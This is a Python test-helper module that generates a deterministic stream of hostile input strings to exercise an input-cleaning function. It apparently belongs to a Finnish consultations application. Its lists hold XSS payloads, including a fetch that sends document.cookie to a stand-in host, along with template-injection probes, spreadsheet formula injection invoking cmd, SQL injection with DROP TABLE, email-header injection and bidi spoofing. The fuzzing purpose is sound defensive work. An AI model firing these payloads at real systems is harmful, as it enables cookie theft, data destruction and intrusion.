"""Words that nobody means well: a grammar that writes them, the same ones in every run."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from random import Random

Writer = Callable[[Random], str]

TAGS = ("script", "img", "svg", "iframe", "a", "style", "math", "details", "object", "embed", "base", "meta", "link",
        "form", "input", "textarea", "title", "noscript", "template", "marquee", "video", "body", "plaintext", "xmp")  # fmt: skip
HANDLERS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "ONCLICK", "onpointerenter")
CALLS = ("alert(1)", "alert`1`", "fetch('//x.example/'+document.cookie)", "top[/al/.source+/ert/.source](1)",
         "eval(atob('YWxlcnQoMSk='))", "self['al'+'ert'](1)", "&#97;lert(1)", "\\u0061lert(1)")  # fmt: skip
LEAVING = (
    "",
    '">',
    "'>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</svg>",
    "*/",
    "`>",
    "</p></div>",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "data:text/html,",
    "vbscript:",
    "javascript&colon;",
    "\x01javascript:",
)
TEMPLATES = (
    "{{ %s }}",
    "{%% %s %%}",
    "${%s}",
    "<%%= %s %%>",
    "#{%s}",
    "{{{%s}}}",
    "[[%s]]",
    "{# %s #}",
    "%%(%s)s",
    "{0.%s}",
)
EXPRESSIONS = (
    "7*7",
    "config",
    "settings.SECRET_KEY",
    "debug",
    "load static",
    "''.__class__.__mro__",
    "request.user",
    "include 'x'",
)
ENTITIES = (
    "&lt;b&gt;",
    "&#60;i&#62;",
    "&#x3c;u&#x3e;",
    "&amp;lt;s&amp;gt;",
    "&quot;",
    "&NotEqualTilde;",
    "&#0;",
    "&ltimg",
    "&#xD800;",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://x.example","x")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "－1",
    "＠A1",
)
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE consultations_statement; --",
    "\\'; SELECT pg_sleep(9)--",
    "1) UNION SELECT NULL--",
    "%' ESCAPE '",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "![x](http://x.example/y.png)",
    "<http://x.example>",
    "# X",
    "***x***",
    "`x`",
    "| a | b |",
    "- [ ] x",
    "~~x~~",
)
HEADERS = ("\r\nBcc: uhri@x.example", "\nSubject: voitto", "\r\n\r\n<html>", "\r\nSet-Cookie: a=b", "%0d%0aLocation: //x.example",
           "\u2028Bcc: x", "=?utf-8?q?x?=", "\r\n.\r\nQUIT")  # fmt: skip
BIDI = ("\u202egnp.exe", "\u2066\u202e/* x */\u2069", "\u200fא\u200e", "\u061c", "a\u202db\u202c", "אבג (x) דה", "‏عربي‏")
ADDRESSES = ('https://x.example/"onmouseover="alert(1)', "https://x.example/<b>", "http://x.example/'onclick='alert(1)",
             "https://käyttäjä:salasana@x.example/", "https://x.example/?a=1&lt=2&b[]=%3Cscript%3E", "http://",
             "https://x.example/&quot;onload=x", "ftp://x.example/", "https://x.example/" + "a" * 600)  # fmt: skip
LETTERS = "aåäöéšžZ漢字한ไทย🙂👩‍👧🏳️‍🌈ﬁßİıΩ🇫🇮"


def markup(random: Random) -> str:
    tag = random.choice(TAGS)
    attribute = f"{random.choice(HANDLERS)}={random.choice(['', chr(39), chr(34), '`'])}{random.choice(CALLS)}"
    body = random.choice([f"<{tag} src=x {attribute}>", f"<{tag}/{attribute}//", f"<{tag}>{random.choice(CALLS)}</{tag}>",
                          f"<{tag}\n{attribute}", f"<x:{tag} {attribute}>", f"\"'{attribute} x='", f"<<{tag}>>"])  # fmt: skip
    return random.choice(LEAVING) + body


def scheme(random: Random) -> str:
    return f"{random.choice(LEAVING)}<a href={random.choice(SCHEMES)}{random.choice(CALLS)}>x</a> {random.choice(SCHEMES)}x"


def template(random: Random) -> str:
    return random.choice(TEMPLATES) % random.choice(EXPRESSIONS)


def entity(random: Random) -> str:
    return " ".join(random.choice(ENTITIES) for _each in range(random.randint(1, 5)))


def formula(random: Random) -> str:
    return (
        random.choice(["", " ", "\n", "\u00a0", "\u200b", "'"])
        + random.choice(FORMULAS)
        + random.choice(["", "*2", ";x"])
    )


def query(random: Random) -> str:
    return random.choice(["Aino", "x", "", "\\"]) + random.choice(SQL)


def markdown(random: Random) -> str:
    return "\n\n".join(
        random.choice((*MARKDOWN, "## Otsikko", "##", "## <b>x</b>")) for _each in range(random.randint(1, 3))
    )


def header(random: Random) -> str:
    return "Aino" + "".join(random.choice(HEADERS) for _each in range(random.randint(1, 2)))


def direction(random: Random) -> str:
    return f"Aino {random.choice(BIDI)} {random.choice(BIDI)}"


def address(random: Random) -> str:
    return f"Ks. {random.choice(ADDRESSES)}{random.choice(['', '.', ').', '&', '…'])} ja {random.choice(ADDRESSES)}"


def long_word(random: Random) -> str:
    return random.choice("aäö漢🙂-_&<") * random.choice([80, 149, 150, 151, 400, 2_000])


def characters(random: Random) -> str:
    return "".join(random.choice((LETTERS, "\x00\x07\x1f\x7f\x85\ufeff\ufffe\u0300\u0489\u034f", "<>&\"'`={}")[random.randint(0, 2)])
                   if random.random() < 0.5 else random.choice(LETTERS) for _each in range(random.randint(3, 40)))  # fmt: skip


WRITERS: tuple[Writer, ...] = (
    markup, markup, markup, scheme, template, entity, formula, query, markdown, header, direction, address, long_word, characters,
)  # fmt: skip


def hostile_words() -> Iterator[str]:
    """Yield words without end, of each kind as many; every fourth is mixed from two kinds and numbered."""
    random = Random(7)
    number = 0
    while True:
        words = WRITERS[number % len(WRITERS)](random)
        yield f"{words} {number} {random.choice(WRITERS)(random)}" if number % 4 == 3 else words
        number += 1


def different(number: int, *, clean: Callable[[str], str]) -> list[str]:
    """Return `number` hostile words that are still something, and still different, when they are clean."""
    found: dict[str, str] = {}
    for words in hostile_words():
        if kept := clean(words):
            found.setdefault(kept, words)
        if len(found) == number:
            return list(found.values())
    raise AssertionError
